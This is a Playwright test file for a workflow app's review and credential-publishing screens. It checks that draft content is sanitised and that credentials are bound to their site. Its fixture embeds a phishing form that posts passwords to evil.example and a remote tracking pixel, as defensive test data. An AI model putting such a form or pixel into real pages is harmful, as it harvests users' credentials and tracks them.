import { expect, test } from '@playwright/test';
import { step } from '../support/canvas';
import { pendingReview, startRun } from '../support/reviews';
import { createWorkflow, signIn, type GraphJson } from '../support/session';

// Issue #9 items 1 and 11, as a reviewer and an editor see them.
const OUT = '/tmp/flowpress-hard-publish';

const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';

/** A draft with a phishing form and a tracking pixel in it, stopped for review. */
function hostileDraft(): GraphJson {
  return {
    version: 1,
    nodes: [
      {
        id: 'brief',
        type: 'input',
        position: { x: 0, y: 0 },
        data: { fields: [{ name: 'topic', type: 'text', required: true }] },
      },
      {
        id: 'draft',
        type: 'template',
        position: { x: 320, y: 0 },
        data: {
          template: [
            '# {{brief.topic}}',
            '',
            '<form action="https://evil.example/collect" data-testid="hostile-form"><input name="password" placeholder="Your password"><button>Sign in again</button></form>',
            '',
            '![pixel](https://evil.example/pixel.png)',
            '',
            `![inline](${PIXEL})`,
            '',
            'The text after the markup stays.',
          ].join('\n'),
        },
      },
      { id: 'check', type: 'review', position: { x: 640, y: 0 }, data: {} },
    ],
    edges: [
      { id: 'e1', source: 'brief', target: 'draft', sourceHandle: 'topic', targetHandle: 'in' },
      { id: 'e2', source: 'draft', target: 'check', sourceHandle: 'text', targetHandle: 'content' },
    ],
  };
}

test('the review screen shows no form and no remote image from a draft', async ({ page }) => {
  const remote: string[] = [];
  page.on('request', (r) => {
    if (r.url().includes('evil.example')) remote.push(r.url());
  });
  const token = await signIn(page);
  const wf = await createWorkflow(page.request, token, 'Hostile draft', hostileDraft());
  const run = await startRun(page.request, token, wf.id, 'Spring launch');
  const review = await pendingReview(page.request, token, run);
  await page.goto(`/reviews/${review.id}?who=all`);
  const text = page.getByTestId('draft-text');
  await expect(text).toContainText('The text after the markup stays.');
  await expect(text.locator('form, input, button, textarea, select')).toHaveCount(0);
  await expect(text.locator('img[src^="https:"]')).toHaveCount(0);
  await expect(text.locator('img[src^="data:image/png"]')).toHaveCount(1);
  await page.screenshot({ path: `${OUT}/review-hostile-draft.png` });
  expect(remote).toEqual([]);
});

test('the credential form and the publish step say a credential is bound to its site', async ({
  page,
}) => {
  const token = await signIn(page);
  await page.goto('/credentials');
  await page.getByTestId('new-credential').first().click();
  await page.getByTestId('credential-type').click();
  await page.getByRole('option', { name: 'WordPress' }).click();
  await expect(page.getByRole('dialog')).toContainText('Publish steps send it nowhere else');
  await page.screenshot({ path: `${OUT}/credential-form.png` });
  await page.keyboard.press('Escape');

  const wf = await createWorkflow(page.request, token, 'Blog publish', {
    version: 1,
    nodes: [
      {
        id: 'brief',
        type: 'input',
        position: { x: 0, y: 0 },
        data: { fields: [{ name: 'topic', type: 'text', required: true }] },
      },
      {
        id: 'ship',
        type: 'publish',
        label: 'Publish to the blog',
        position: { x: 320, y: 0 },
        data: { target: 'wordpress', credentialId: '00000000-0000-4000-8000-000000000000' },
      },
    ],
    edges: [{ id: 'e1', source: 'brief', target: 'ship', targetHandle: 'content' }],
  });
  await page.goto(`/workflows/${wf.id}`);
  await step(page, 'ship').getByText('Publish to the blog', { exact: true }).click();
  const hint = page.getByText('A credential is bound to its site', { exact: false });
  await hint.scrollIntoViewIfNeeded();
  await expect(hint).toBeVisible();
  await page.screenshot({ path: `${OUT}/publish-settings.png` });
});
